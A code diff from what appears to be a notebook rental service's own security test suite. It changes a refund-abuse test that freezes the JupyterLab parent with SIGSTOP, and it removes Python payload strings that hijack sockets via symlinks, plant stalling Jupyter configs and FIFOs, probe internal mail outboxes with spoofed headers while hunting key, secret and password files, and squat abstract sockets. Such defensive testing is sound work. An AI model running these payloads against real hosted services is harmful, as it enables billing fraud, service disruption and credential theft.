@@ -8,6 +8,7 @@ import { create, must, orderAndPay, type Paid, signUp, until } from "../customer
 import { ask, openNotebook } from "../notebook.ts";
 import { startProduct } from "../product.ts";
 import { type Attack, act, end, type Rental, rent, rowOf, settledAs, type Target } from "./attack.ts";
+import { configuration, outbox, pipe, squat, swap } from "./cells.ts";
 
 /** From a cell of a notebook that its owner rents, on whatever runs environments. */
 export const inside: readonly Attack[] = [
@@ -58,6 +59,7 @@ export const inside: readonly Attack[] = [
   },
   {
     name: "4 unused time paid back at will",
+    slow: true,
     async run(target) {
       const successes: string[] = [];
       const customer = await signUp(target.product.url);
@@ -65,8 +67,9 @@ export const inside: readonly Attack[] = [
       for (let n = 0; n < tries; n++) {
         const rental = await rent(target, { customer, duration: 6 });
         const notebook = await openNotebook(rental.door);
-        // JupyterLab is the kernel's parent: it stays there and answers nobody.
-        await notebook.run("import os, signal; os.kill(os.getppid(), signal.SIGSTOP)").catch(() => "");
+        // JupyterLab is the kernel's parent: it stays there and answers nobody, this cell neither.
+        const stopping = notebook.run("import os, signal; os.kill(os.getppid(), signal.SIGSTOP)").catch(() => "");
+        await Promise.race([stopping, sleep(2000)]);
         notebook.close();
         await silentForTenMinutes(target, rental);
         const { rows } = await paidBack(target, rental);
@@ -178,46 +181,6 @@ export const inside: readonly Attack[] = [
 /** What is given for nothing at a start, in seconds, with what a slow machine adds (G105). */
 const mostFreeSeconds = 75;
 
-/** Renames whatever socket can be reached and puts a link to another in its place. */
-const swap = (path: string) => `
-import os, stat
-def sockets(folder):
-  for root, folders, files in os.walk(folder):
-    for each in files:
-      path = os.path.join(root, each)
-      try:
-        if stat.S_ISSOCK(os.lstat(path).st_mode): yield path
-      except OSError: pass
-for path in [each for folder in ('/run', '/tmp', os.path.expanduser('~')) for each in sockets(folder)]:
-  try:
-    os.rename(path, path + '.real'); os.symlink('${path}', path); print('swapped', path)
-  except OSError as problem: print('kept', path, problem)
-for folder in ('/run/jupyter', '/run'):
-  try:
-    os.rename(folder, folder + '.real'); os.symlink('${tmpdir()}', folder); print('swapped', folder)
-  except OSError as problem: print('kept', folder, problem)
-`;
-
-/** Runs before JupyterLab answers, if anything of it is read then, and leaves a sign. */
-const configuration = `
-import os
-for folder in ('.jupyter', '.local/python/etc/jupyter', '.local/etc/jupyter'):
-  folder = os.path.expanduser('~/' + folder); os.makedirs(folder, exist_ok=True)
-  for name in ('jupyter_server_config.py', 'jupyter_lab_config.py', 'jupyter_config.py'):
-    open(os.path.join(folder, name), 'w').write('import time\\ntime.sleep(90)\\n')
-`;
-
-const pipe = `
-import os
-for path in ('~/.local/python/pyvenv.cfg', '~/.jupyter/lab', '~/.local/python/share/jupyter'):
-  path = os.path.expanduser(path)
-  try:
-    if os.path.isdir(path): os.rename(path, path + '.kept')
-    elif os.path.lexists(path): os.unlink(path)
-    os.makedirs(os.path.dirname(path), exist_ok=True); os.mkfifo(path)
-  except OSError as problem: print(problem)
-`;
-
 /** Stops and starts; how much longer it ran than its time went down, for at most two minutes. */
 async function freeSeconds(target: Target, rental: Rental): Promise<number> {
   await act(target, rental, "stop");
@@ -233,11 +196,11 @@ async function freeSeconds(target: Target, rental: Rental): Promise<number> {
   return ran - (before - left);
 }
 
-/** Waits until the silence is noticed, then lets its ten minutes be over. */
+/** Where the silence is noticed, lets its ten minutes be over. */
 async function silentForTenMinutes(target: Target, rental: Rental): Promise<void> {
-  await until("the silence to be noticed", async () => (await rowOf(target, rental)).down_since !== null, 60_000).catch(
-    () => undefined,
-  );
+  const isNoticed = async () => (await rowOf(target, rental)).down_since !== null;
+  const noticed = await until("the silence to be noticed", isNoticed, 20_000).catch(() => false);
+  if (!noticed) return;
   await target.db
     .updateTable("environments")
     .set({ give_up_at: new Date(0), down_since: new Date(Date.now() - 660_000), due_at: new Date(0) })
@@ -267,43 +230,6 @@ async function paidBack({ db }: Target, { orderId }: Rental): Promise<{ rows: re
     .executeTakeFirstOrThrow();
   return { rows: row.refund_minor > 0 ? [`${row.refund_minor} of ${row.amount_minor} cents went back`] : [] };
 }
-
-/** Each address and header by which this machine may be taken for the operator; and the key, where it may lie. */
-const outbox = (port: number, dataDir: string) => `
-import os, urllib.request
-hosts = ['127.0.0.1']
-try:
-  for line in open('/proc/net/route'):
-    words = line.split()
-    if words[1] == '00000000': hosts.append('.'.join(str(int(words[2][n:n + 2], 16)) for n in (6, 4, 2, 0)))
-except OSError: pass
-for host in hosts:
-  for name in ('localhost:${port}', '127.0.0.1:${port}', '[::1]:${port}'):
-    for more in ({}, {'X-Forwarded-For': '127.0.0.1'}, {'Cookie': 'outbox=1; key=1'}):
-      for path in ('/outbox', '/outbox?key=', '/embedded-gateway/v1/test/mails'):
-        try:
-          request = urllib.request.Request('http://%s:${port}%s' % (host, path), headers={'Host': name, 'Accept': 'application/json', **more})
-          print(urllib.request.urlopen(request, timeout=3).read().decode()[:20000].replace('\\n', ' '))
-        except Exception as problem: print(host, path, problem)
-for root, folders, files in os.walk('${dataDir}'):
-  for each in files:
-    if 'key' in each or 'secret' in each or 'password' in each: print('readable', os.path.join(root, each))
-`;
-
-/** Takes every abstract name that the notebook can see, as soon as it is free, for half a minute. */
-const squat = `
-import socket, threading, time
-names = sorted({line.split()[-1] for line in open('/proc/net/unix') if line.rstrip().split()[-1].startswith('@berth')})
-held = []
-def take(name):
-  end = time.time() + 30
-  while time.time() < end:
-    try:
-      taken = socket.socket(socket.AF_UNIX); taken.bind(chr(0) + name[1:]); taken.listen(); held.append(taken); return
-    except OSError: time.sleep(0.002)
-for name in names: threading.Thread(target=take, args=(name,), daemon=True).start()
-print('\\n'.join(names) or 'nothing to take')
-`;
 
 function residentMb(pid: number): number {
   return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1]) / 1024;
